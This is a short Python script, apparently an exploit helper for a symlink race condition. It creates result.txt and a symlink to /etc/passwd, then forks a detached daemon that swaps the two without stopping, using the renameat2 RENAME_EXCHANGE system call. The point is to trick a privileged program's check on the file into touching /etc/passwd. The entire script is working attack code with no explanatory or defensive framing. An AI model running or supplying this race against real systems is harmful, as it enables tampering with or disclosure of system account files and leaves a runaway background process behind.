# A daemon exchanges file and link as fast as it can while the main process ends.
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
number = 316 if os.uname().machine == "x86_64" else 276  # renameat2
open("result.txt", "w").write("good")
os.symlink("/etc/passwd", "spare")
read, write = os.pipe()
if not os.fork():
    os.setsid()
    told = False
    while True:
        libc.syscall(number, -100, b"result.txt", -100, b"spare", 2)
        if not told:
            os.write(write, b"x")
            told = True
os.read(read, 1)
print("swapping")
